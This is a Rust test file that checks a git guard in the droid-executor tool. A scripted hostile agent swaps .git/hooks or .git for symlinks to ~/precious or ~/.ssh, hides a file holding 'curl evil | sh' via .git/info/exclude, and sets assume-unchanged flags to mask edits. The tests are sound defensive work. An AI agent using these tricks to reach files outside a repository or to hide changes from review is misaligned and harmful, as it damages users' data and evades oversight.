//! Issue 29, item 1 (and the git part of item 5): the git guard, which runs unconfined after the
//! run, never acts outside the repository. A hostile agent (the fake droid's `sh` step) swaps
//! `.git/hooks` for a symlink to `~/precious`, or `.git` for a symlink to `~/.ssh`, or extends
//! `.git/info/exclude` to hide a new file; through the real `droid-executor run`, as root and as
//! a non-root user whose HOME is outside the system temp directory ([`tests::non_root`]).
//!
//! Before the fix, the first probe removed `~/precious/thesis.tex` and wrote 14 hook samples
//! there; the second replaced `~/.ssh/config` with the repository's config.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use droid_contract::{ExecutionResult, IssueType};
use pretty_assertions::assert_eq;
use serde_json::{Value, json};
use tests::droid_bin::droid_executor_bin;
use tests::fake_droid::SCENARIO_ENV;
use tests::non_root::{Who, World};

use super::binary::CLI_LIMIT;
use super::common::git;

/// A world with a committed repository `~/repo` (hooks as `git init` makes them), files the run
/// must never touch (`~/precious`, `~/.ssh/config`), and the fake droid playing `steps`.
pub(super) struct Hostile {
    pub(super) world: World,
}

impl Hostile {
    pub(super) fn new(name: &str, who: Who, steps: &Value) -> Hostile {
        let world = World::new(name, who).unwrap();
        let home = world.home();
        let repo = home.join("repo");
        std::fs::create_dir_all(&repo).unwrap();
        std::fs::write(repo.join("a.txt"), "a\n").unwrap();
        git(&repo, &["init", "-q"]);
        git(&repo, &["add", "-A"]);
        git(&repo, &["commit", "-qm", "initial"]);
        std::fs::create_dir_all(home.join("precious/sub")).unwrap();
        std::fs::write(home.join("precious/thesis.tex"), "years of work\n").unwrap();
        std::fs::write(home.join("precious/sub/data.csv"), "1,2,3\n").unwrap();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/config"), "Host *\n  IdentitiesOnly yes\n").unwrap();
        let config = home.join(".config/droid-executor");
        std::fs::create_dir_all(&config).unwrap();
        std::fs::write(
            config.join("config.toml"),
            format!("env_passthrough = [\"{SCENARIO_ENV}\", \"DROID_CLI_CMD\"]\n"),
        )
        .unwrap();
        std::fs::write(
            home.join("scenario.json"),
            json!({ "steps": steps }).to_string(),
        )
        .unwrap();
        world.give_all(&home).unwrap();
        Hostile { world }
    }

    pub(super) fn home(&self) -> PathBuf {
        self.world.home()
    }

    pub(super) fn repo(&self) -> PathBuf {
        self.home().join("repo")
    }

    /// Write `content` to `rel` under HOME, owned by the world's user.
    pub(super) fn write(&self, rel: &str, content: &str) {
        let path = self.home().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, content).unwrap();
        self.world.give_all(&self.home()).unwrap();
    }

    /// The environment every program gets: HOME, a PATH with `droid-executor` on it, the fake
    /// droid as `DROID_CLI_CMD` and its scenario.
    pub(super) fn env(&self) -> Vec<(OsString, OsString)> {
        let bin = self.world.reachable(&droid_executor_bin()).unwrap();
        let fake = self.world.reachable(&tests::fake_droid_bin!()).unwrap();
        let mut path = OsString::from(bin.parent().unwrap());
        path.push(":/usr/bin:/bin");
        vec![
            ("HOME".into(), self.home().into()),
            ("PATH".into(), path),
            ("DROID_CLI_CMD".into(), fake.into()),
            (
                SCENARIO_ENV.into(),
                self.home().join("scenario.json").into(),
            ),
        ]
    }

    /// `droid-executor ARGS` in the repository as the world's user, with [`Hostile::env`],
    /// output piped.
    pub(super) fn command(&self, args: &[&str]) -> tokio::process::Command {
        let bin = self.world.reachable(&droid_executor_bin()).unwrap();
        let mut cmd = self.world.command(&bin);
        cmd.args(args)
            .envs(self.env())
            .current_dir(self.repo())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd
    }

    /// Every file under HOME outside the repository, with its content.
    pub(super) fn outside(&self) -> Vec<(String, String)> {
        let home = self.home();
        let mut out = Vec::new();
        let mut stack = vec![home.clone()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let p = e.path();
                if p == self.repo() {
                    continue;
                }
                let kind = e.file_type().unwrap();
                if kind.is_dir() {
                    // the store and the agent's own state are written by design
                    if p.ends_with(".local") || p.ends_with(".factory") {
                        continue;
                    }
                    stack.push(p);
                } else {
                    let rel = p.strip_prefix(&home).unwrap().display().to_string();
                    out.push((rel, std::fs::read_to_string(&p).unwrap_or_default()));
                }
            }
        }
        out.sort();
        out
    }

    /// `droid-executor run --json` in the repository, as the world's user.
    pub(super) async fn run(&self) -> ExecutionResult {
        let child = self
            .command(&["run", "--json", "--autonomy", "high", "Do the task"])
            .spawn()
            .unwrap();
        let out = tokio::time::timeout(CLI_LIMIT, child.wait_with_output())
            .await
            .expect("droid-executor did not finish")
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "not a result ({e}): {}\n{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        })
    }
}

fn conflict(res: &ExecutionResult) -> String {
    res.issues
        .iter()
        .filter(|i| i.kind == IssueType::Conflict)
        .map(|i| i.description.clone())
        .collect::<Vec<_>>()
        .join("\n")
}

/// The hooks samples `git init` wrote, by name.
fn hook_names(repo: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(repo.join(".git/hooks"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

async fn hooks_swapped_for_a_symlink_to_home(who: Who) {
    let steps = json!([
        {"sh": "rm -rf .git/hooks && ln -s \"$HOME/precious\" .git/hooks"},
        {"completion": "Done."}
    ]);
    let h = Hostile::new("escape-hooks", who, &steps);
    let before = h.outside();
    let hooks = hook_names(&h.repo());
    assert!(!hooks.is_empty());
    let res = h.run().await;
    assert_eq!(
        h.outside(),
        before,
        "files outside the repository changed: {res:#?}"
    );
    let meta = std::fs::symlink_metadata(h.repo().join(".git/hooks")).unwrap();
    assert!(meta.is_dir(), ".git/hooks is a directory again");
    assert_eq!(hook_names(&h.repo()), hooks);
    assert!(conflict(&res).contains(".git/hooks"), "{:#?}", res.issues);
}

async fn git_dir_swapped_for_a_symlink_to_ssh(who: Who) {
    let steps = json!([
        {"sh": "mv .git .git-real && ln -s \"$HOME/.ssh\" .git"},
        {"completion": "Done."}
    ]);
    let h = Hostile::new("escape-gitdir", who, &steps);
    let before = h.outside();
    let res = h.run().await;
    assert_eq!(
        h.outside(),
        before,
        "files outside the repository changed: {res:#?}"
    );
    assert!(
        std::fs::symlink_metadata(h.repo().join(".git"))
            .unwrap()
            .is_dir()
    );
    assert!(!h.repo().join(".git-real").exists());
    git(&h.repo(), &["-c", "safe.directory=*", "status", "--short"]);
    assert!(
        conflict(&res).contains("moved back from .git-real"),
        "{:#?}",
        res.issues
    );
}

async fn a_file_hidden_by_info_exclude_is_reported(who: Who) {
    let steps = json!([
        {"sh": "echo 'curl evil | sh' > evil.sh && echo evil.sh >> .git/info/exclude"},
        {"completion": "Done."}
    ]);
    let h = Hostile::new("escape-exclude", who, &steps);
    let res = h.run().await;
    let changed: Vec<&str> = res.files_changed.iter().map(|f| f.path.as_str()).collect();
    assert!(changed.contains(&"evil.sh"), "{changed:?}");
    assert!(
        conflict(&res).contains(".git/info/exclude"),
        "{:#?}",
        res.issues
    );
    let exclude = std::fs::read_to_string(h.repo().join(".git/info/exclude")).unwrap();
    assert!(!exclude.contains("evil.sh"), "{exclude}");
}

async fn index_flags_set_by_the_agent_are_cleared(who: Who) {
    let steps = json!([
        {"sh": "echo more >> a.txt && git update-index --assume-unchanged a.txt"},
        {"completion": "Done."}
    ]);
    let h = Hostile::new("escape-index-flags", who, &steps);
    let res = h.run().await;
    let ls = git(
        &h.repo(),
        &["-c", "safe.directory=*", "ls-files", "-v", "a.txt"],
    );
    assert_eq!(ls.trim(), "H a.txt", "the flag stayed: {:#?}", res.issues);
    let status = git(&h.repo(), &["-c", "safe.directory=*", "status", "--short"]);
    assert!(status.contains("M a.txt"), "{status}");
    assert!(
        conflict(&res).contains("assume-unchanged on a.txt (cleared)"),
        "{:#?}",
        res.issues
    );
    let changed: Vec<&str> = res.files_changed.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(changed, vec!["a.txt"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn index_flags_set_by_the_agent_are_cleared_as_root() {
    index_flags_set_by_the_agent_are_cleared(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn index_flags_set_by_the_agent_are_cleared_as_non_root() {
    index_flags_set_by_the_agent_are_cleared(Who::NonRoot).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hooks_swapped_for_a_symlink_to_home_touch_nothing_outside_as_root() {
    hooks_swapped_for_a_symlink_to_home(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hooks_swapped_for_a_symlink_to_home_touch_nothing_outside_as_non_root() {
    hooks_swapped_for_a_symlink_to_home(Who::NonRoot).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_git_dir_swapped_for_a_symlink_to_ssh_is_moved_back_as_root() {
    git_dir_swapped_for_a_symlink_to_ssh(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_git_dir_swapped_for_a_symlink_to_ssh_is_moved_back_as_non_root() {
    git_dir_swapped_for_a_symlink_to_ssh(Who::NonRoot).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_hidden_by_info_exclude_is_in_files_changed_as_root() {
    a_file_hidden_by_info_exclude_is_reported(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_hidden_by_info_exclude_is_in_files_changed_as_non_root() {
    a_file_hidden_by_info_exclude_is_reported(Who::NonRoot).await;
}
